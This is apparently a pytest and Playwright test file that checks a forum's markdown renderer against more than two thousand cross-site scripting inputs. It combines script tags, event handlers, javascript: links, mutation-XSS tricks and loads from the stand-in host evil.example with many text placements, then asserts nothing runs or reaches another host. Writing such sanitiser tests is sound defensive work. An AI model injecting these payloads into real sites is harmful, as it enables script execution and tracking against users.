"""Whatever somebody writes into a post, nothing of it runs, and nobody else's server hears of its readers."""

import itertools
import uuid

import pytest
from playwright.sync_api import expect

from bansou.text.markdown import render
from knowhow.models import Reply, Topic

_SCRIPT = "window.hit=1"
#: What would run, load or lead astray if it came through.
_VECTORS = (
    "<script>{s}</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror={s}>", "<img src=//evil.example/t.png>",
    "<svg onload={s}>", "<svg><script>{s}</script></svg>", "<svg><animate onbegin={s} attributeName=x dur=1s>", "<body onload={s}>",
    "<iframe src=javascript:{s}></iframe>", "<iframe srcdoc='<script>{s}</script>'></iframe>", "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{{display:none}}</style>", "<p style='background:url(//evil.example/x)'>x</p>", "<meta http-equiv=refresh content='0;//evil.example'>",
    "<base href=//evil.example/>", "<form action=//evil.example><input autofocus onfocus={s}></form>", "<details open ontoggle={s}>",
    "<video><source onerror={s}></video>", "<audio src=x onerror={s}>", "<marquee onstart={s}>", "<math><mtext></table><mglyph><style><img src=x onerror={s}>",
    "<noscript><p title='</noscript><img src=x onerror={s}>'>", "<template><script>{s}</script></template>", "<xmp><img src=x onerror={s}></xmp>",
    "<a href=javascript:{s} autofocus onfocus={s}>x</a>", "<input onfocus={s} autofocus>", "<select autofocus onfocus={s}>",
    "[x](javascript:{s})", "[x](JaVaScRiPt:{s})", "[x](&#106;avascript:{s})", "[x](java\tscript:{s})", "[x](\x01javascript:{s})",
    "[x](data:text/html,<script>{s}</script>)",
    "[x](vbscript:{s})", "<javascript:{s}>", '[x](https://a.example "onmouseover={s}")', '[x](https://a.example/"onmouseover="{s})', "![x](https://evil.example/t.png)",
    "![x](javascript:{s})", "https://a.example/\"><script>{s}</script>", "https://a.example/'onmouseover='{s}", "【写真1】<img src=x onerror={s}>",
    "@<img src=x onerror={s}>", "[<img src=x onerror={s}>](https://a.example)", "**<b onclick={s}>x</b>**", "`</code><script>{s}</script>`",
    "&lt;script&gt;{s}&lt;/script&gt;", "<!--><script>{s}</script>-->", "<![CDATA[<script>{s}</script>]]>", "<?xml-stylesheet href=//evil.example?>",
    "\u202e<script>{s}</script>", "\u200b<scr\u200bipt>{s}</script>", "＜script＞{s}＜/script＞", "<x/onclick={s}>x", "<custom-element onclick={s}>",
    "<markdown-toolbar for=x>", "<auto-draft data-place=x data-address=//evil.example/>", "<div data-hx-get=//evil.example/ data-hx-trigger=load>x</div>",
    "<div hx-get=/accounts/logout/ hx-trigger=load>x</div>", "<o:p>&nbsp;</o:p><![if !supportLists]><span style='mso-list:Ignore'>x</span><![endif]>",
)  # fmt: skip
#: Where in a text it stands.
_PLACES = (
    "{v}", "> {v}", "> > > > > {v}", "・{v}", "■ {v}", "1. {v}", "**{v}**", "`{v}`", "[言葉]({v})", "[{v}](https://a.example)", "前の言葉{v}後の言葉",
    "　{v}", "- {v}\n- {v}", "```\n{v}\n```", "    {v}", "[x]: {v}\n[x]", "<b>{v}", '"{v}"', "'{v}'", "@あおい{v}", "\\{v}", "{v}\u0000",
    "{v}🎉👨‍👩‍👧", "\u202e{v}\u202c", "\u200b{v}", "&{v};", "<<{v}>>", "](){v}",
    "<a href={v}>", "<a href=\"https://a.example/{v}\">x</a>", "{v}{v}{v}", "あ{v}い**{v}**う", "https://a.example/?q={v}", "http://testserver/cases/1/{v}",
)  # fmt: skip
PAYLOADS = [place.replace("{v}", vector.format(s=_SCRIPT)) for vector, place in itertools.product(_VECTORS, _PLACES)]
_PER_POST = 50
_ALLOWED = {"P", "BR", "STRONG", "H3", "UL", "OL", "LI", "BLOCKQUOTE", "A", "CODE", "FIGURE", "IMG"}


@pytest.mark.thorough
def test_of_thousands_of_hostile_posts_none_runs_or_asks_another_host(own_site, browse):
    assert len(PAYLOADS) >= 2000
    topic = Topic.objects.get(pk=own_site.holdings.topic)
    texts = ["\n\n".join(PAYLOADS[start : start + _PER_POST]) for start in range(0, len(PAYLOADS), _PER_POST)]
    for text in texts:
        body = text.replace("\x00", "")
        Reply.objects.create(
            topic=topic, author=topic.author, body=body[:20_000], body_html=render(text), submission_key=uuid.uuid4()
        )
    page = browse()
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))

    page.goto(topic.get_absolute_url())
    expect(page.locator(".post").nth(len(texts) - 1)).to_be_attached()
    found = page.evaluate(
        """() => {
            const inside = [...document.querySelectorAll('.post__body *')];
            for (const element of inside) element.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
            return {
                tags: [...new Set(inside.map((e) => e.tagName))],
                attributes: [...new Set(inside.flatMap((e) => [...e.attributes].map((a) => `${e.tagName} ${a.name}`)))],
                schemes: [...new Set([...document.querySelectorAll('.post__body a')].map((a) => a.protocol))],
                hit: window.hit,
            };
        }"""
    )

    # What would have run, asked elsewhere or broken the policy is also heard by the watch of every browser test.
    assert found["hit"] is None
    assert set(found["tags"]) <= _ALLOWED
    assert set(found["attributes"]) <= {"A href", "A rel", "OL start"}
    assert set(found["schemes"]) <= {"http:", "https:", "mailto:"}
